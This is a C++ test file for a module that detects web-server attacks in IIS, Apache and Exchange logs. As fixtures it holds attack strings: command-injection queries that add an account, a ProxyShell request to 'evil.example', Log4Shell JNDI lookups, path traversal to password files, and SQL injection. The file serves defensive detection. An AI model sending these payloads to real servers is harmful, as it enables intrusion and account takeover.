// Attacks on web servers, as the logs of the module proxy_and_web_logs tell.
#include "tests/modules/web_cases.h"

namespace hozen {
namespace {

using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

TEST_F(ProxyAndWebLogsTest, AbsoluteUrlsInAServersLogAreItsOwnRequests) {
  const std::string begin = "203.0.113.9 - - [20/Feb/2024:12:00:00 +0000] \"";
  const std::string rest = " HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.0\"\n";
  const std::string evil = begin + "GET http://www.example.jp/a.php?c=whoami" + rest;
  std::string own, proxied;
  for (int i = 0; i < 20; ++i) {
    own += begin + "GET /index.html" + rest;
    proxied += begin + "GET http://www.example.jp/index.html" + rest;
  }
  log("C:\\Apache24\\logs\\access.log", own + evil);
  EXPECT_EQ(findings_of(judge(), "proxy_and_web_logs.command_in_query").size(), 1u);
  log("C:\\Apache24\\logs\\access.log", proxied + evil);
  EXPECT_THAT(judge().context->findings, IsEmpty());
}

TEST_F(ProxyAndWebLogsTest, APasswordInACommandIsNotTold) {
  for (const char* query :
       {"c=net+user+adm+S3cretPw!+/add", "c=net%20user%20adm%20S3cretPw!%20/add",
        "x=1&cmd=net+user+adm+S3cretPw!+/add"}) {
    iis({{.path = "/shell.aspx", .query = query}});
    const ModuleRun run = judge();
    ASSERT_EQ(run.context->findings.size(), 1u) << query;
    EXPECT_THAT(story_of(run.context->findings[0]), Not(HasSubstr("S3cret"))) << query;
    EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("net user adm ")) << query;
    EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("answered 1 time,")) << query;
  }
  iis({{.path = "/shell.aspx", .query = "c=net+user+/domain"}});
  EXPECT_THAT(story_of(judge().context->findings.at(0)), HasSubstr("?c=net+user+/domain"));
}

TEST_F(ProxyAndWebLogsTest, ProxyShellThatWasAnsweredIsTold) {
  iis({{.path = "/autodiscover/autodiscover.json",
        .query = "@evil.example/mapi/nspi?&Email=autodiscover/autodiscover.json%3F@evil.example"},
       {.path = "/autodiscover/autodiscover.json",
        .query = "a=b@c/powershell",
        .client = "203.0.113.6",
        .status = 401}});
  const ModuleRun run = judge();
  const auto found = findings_of(run, "proxy_and_web_logs.proxyshell");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(severity_of(*found[0]), Severity::medium);
  EXPECT_EQ(found[0]->subject, "203.0.113.5");
  const auto attempts = findings_of(run, "proxy_and_web_logs.attempts");
  ASSERT_EQ(attempts.size(), 1u);
  EXPECT_EQ(severity_of(*attempts[0]), Severity::low);
  EXPECT_THAT(story_of(*attempts[0]), HasSubstr("203.0.113.6"));
}

TEST_F(ProxyAndWebLogsTest, ProxyLogonIsInExchangesOwnLog) {
  windows.value("HKLM\\SOFTWARE\\Microsoft\\ExchangeServer\\v15\\Setup", "MsiInstallPath",
                fake::sz("C:\\Exchange"));
  const std::string head =
      "#Fields: "
      "DateTime,ClientIpAddress,Method,UrlStem,AuthenticatedUser,AnchorMailbox,HttpStatus\n";
  const std::string evil =
      "2024-02-20T12:00:00.000Z,203.0.113.5,POST,/ecp/default.flt,,ServerInfo~a]@ex:444/mapi/"
      ",200\n";
  const std::string good =
      "2024-02-20T12:00:00.000Z,203.0.113.5,POST,/owa/x,DOM\\u,ServerInfo~a]@ex:444/mapi/,200\n"
      "2024-02-20T12:00:00.000Z,203.0.113.5,GET,/owa/x,,SMTP~u@example.net,200\n";
  log("C:\\Exchange\\Logging\\HttpProxy\\Ecp\\a.log", head + good);
  EXPECT_THAT(judge().context->findings, IsEmpty());
  log("C:\\Exchange\\Logging\\HttpProxy\\Ecp\\a.log", head + good + evil);
  const ModuleRun run = judge();
  const auto found = findings_of(run, "proxy_and_web_logs.proxylogon");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(severity_of(*found[0]), Severity::high);
}

TEST_F(ProxyAndWebLogsTest, AttacksByWhatStandsInTheLine) {
  struct Case {
    IisLine line;
    std::string rule;
    Severity severity;
  };
  const Case cases[] = {
      {{.path = "/a.aspx", .query = "id=1%27%20UNION%20SELECT%20name"}, "sql", Severity::low},
      {{.path = "/a.aspx", .query = "x=$%7Bjndi:ldap://a/b%7D"}, "log4shell", Severity::low},
      {{.path = "/", .agent = "${jndi:ldap://a/b}"}, "log4shell", Severity::low},
      {{.path = "/x/..%5c..%5cwindows/win.ini"}, "traversal", Severity::medium},
      {{.path = "/show.aspx", .query = "f=../../../windows/win.ini"},
       "traversal_in_query",
       Severity::low},
      {{.path = "/img/e.php", .query = "c=net+user+/domain"}, "command_in_query", Severity::medium},
      {{.path = "/img/e.aspx", .query = "c=whoami", .status = 404}, "attempts", Severity::low},
      {{.method = "PUT", .path = "/x.jsp/", .status = 201}, "tomcat_put", Severity::medium},
      {{.method = "PUT", .path = "/x.aspx", .status = 201}, "script_written", Severity::medium},
      {{.method = "POST", .path = "/ecp/y.js"}, "proxylogon_page", Severity::medium},
      {{.path = "/human2.aspx"}, "moveit_shell", Severity::low},
      {{.method = "PUT", .path = "/x.jsp/", .status = 200}, "attempts", Severity::low},
  };
  for (const Case& one : cases) {
    iis({one.line});
    const ModuleRun run = judge();
    ASSERT_EQ(run.context->findings.size(), 1u) << one.line.text();
    EXPECT_EQ(run.context->findings[0].rule, "proxy_and_web_logs." + one.rule);
    EXPECT_EQ(severity_of(run.context->findings[0]), one.severity) << one.line.text();
    EXPECT_THAT(run.context->findings[0].why[0].records, Not(IsEmpty()));
  }
}

TEST_F(ProxyAndWebLogsTest, AServerThatAnswersAnythingIsNotAttackedWithSuccess) {
  iis({{.path = "/x/..%5c..%5cwindows/win.ini"},
       {.path = "/e.php", .query = "c=whoami"},
       {.path = "/vendor/phpunit/eval-stdin.php"},
       {.path = "/a.aspx", .query = "x=$%7Bjndi:ldap://a/b%7D"}});
  const ModuleRun run = judge();
  EXPECT_EQ(run.context->findings.size(), 4u);
  for (const Finding& finding : run.context->findings)
    EXPECT_EQ(severity_of(finding), Severity::low) << finding.rule;
}

TEST_F(ProxyAndWebLogsTest, OrdinaryRequestsAreNoAttacks) {
  iis({{.path = "/autodiscover/autodiscover.json",
        .query = "Email=bob%40example.net&Protocol=ActiveSync&RedirectCount=1"},
       {.path = "/autodiscover/autodiscover.json/v1.0/bob@example.net",
        .query = "Protocol=Powershell"},
       {.path = "/ecp/15.1.2106/scripts/common.js"},
       {.method = "POST", .path = "/ecp/DDI/DDIService.svc/SetObject", .query = "schema=X"},
       {.path = "/search.aspx", .query = "q=how+to+select+a+union"},
       {.path = "/search.aspx", .query = "q=sql+union+select+tutorial"},
       {.path = "/search.aspx", .query = "q=powershell+tutorial"},
       {.path = "/docs/windows/system32-explained.html"},
       {.path = "/a.aspx", .query = "returnUrl=%2F..%2Fhome"},
       {.method = "PUT", .path = "/dav/report.docx", .status = 201},
       {.path = "/_layouts/15/ToolPane.aspx", .query = "DisplayMode=Edit"},
       {.method = "POST", .path = "/powershell", .query = "PSVersion=5.1"},
       {.path = "/wiki/index.php", .query = "title=ipconfig"},
       {.path = "/wiki/index.php", .query = "search=net+user"},
       {.path = "/redmine/index.php", .query = "view=tasklist"},
       {.path = "/redmine/index.php", .query = "module=quser"},
       {.method = "PUT", .path = "/api/users.php", .status = 201},
       {.method = "PUT", .path = "/app/v1/users.php", .status = 204}});
  const ModuleRun run = judge();
  EXPECT_THAT(run.context->findings, IsEmpty()) << fake::summary_of(run.context->findings);
}

TEST_F(ProxyAndWebLogsTest, AnAccountThatWritesScriptsIsLow) {
  iis({{.method = "PUT", .path = "/dav/site/page.aspx", .status = 201, .user = "CORP\\web"},
       {.method = "PUT", .path = "/cms/content/index.php", .status = 204, .user = "CORP\\web"}});
  const ModuleRun run = judge();
  EXPECT_EQ(fake::summary_of(run.context->findings),
            "proxy_and_web_logs.script_written_by_account low 30 script_written_by_account\n");
}

TEST_F(ProxyAndWebLogsTest, AServerThatFindsEverythingMayAnswerATraversalToo) {
  const auto asked = [&](int status) {
    std::vector<IisLine> lines;
    for (int i = 0; i < 4; ++i)
      for (const IisLine& line : visitors("/default.aspx", 30)) lines.push_back(line);
    lines.push_back({.path = "/no", .status = status});
    lines.push_back({.path = "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"});
    iis(lines);
    const ModuleRun run = judge();
    return fake::summary_of(run.context->findings);
  };
  EXPECT_EQ(asked(200), "proxy_and_web_logs.traversal low 40 203.0.113.5\n");
  EXPECT_EQ(asked(404), "proxy_and_web_logs.traversal medium 40 203.0.113.5\n");
}

TEST_F(ProxyAndWebLogsTest, PagesOfAdministratorsShowWhatRunsOnAServer) {
  const auto asked = [&](const std::string& client, const std::string& referer) {
    std::vector<IisLine> lines = visitors("/default.aspx", 30);
    for (int i = 0; i < 2; ++i)
      lines.push_back({.path = "/admin/monitor.php",
                       .query = "cmd=tasklist",
                       .client = client,
                       .second = i,
                       .referer = referer});
    iis(lines);
    const ModuleRun run = judge();
    return run.context->findings.size() == 1
               ? std::string{to_text(severity_of(run.context->findings[0]))}
               : fake::summary_of(run.context->findings);
  };
  const std::string page = "https://www.example.net/admin/";
  EXPECT_EQ(asked("192.168.0.3", page), "low");
  EXPECT_EQ(asked("192.168.0.3", "-"), "medium");
  EXPECT_EQ(asked("192.168.0.3", page + "monitor.php"), "medium");
  EXPECT_EQ(asked("203.0.113.5", page), "medium");
}

}  // namespace
}  // namespace hozen
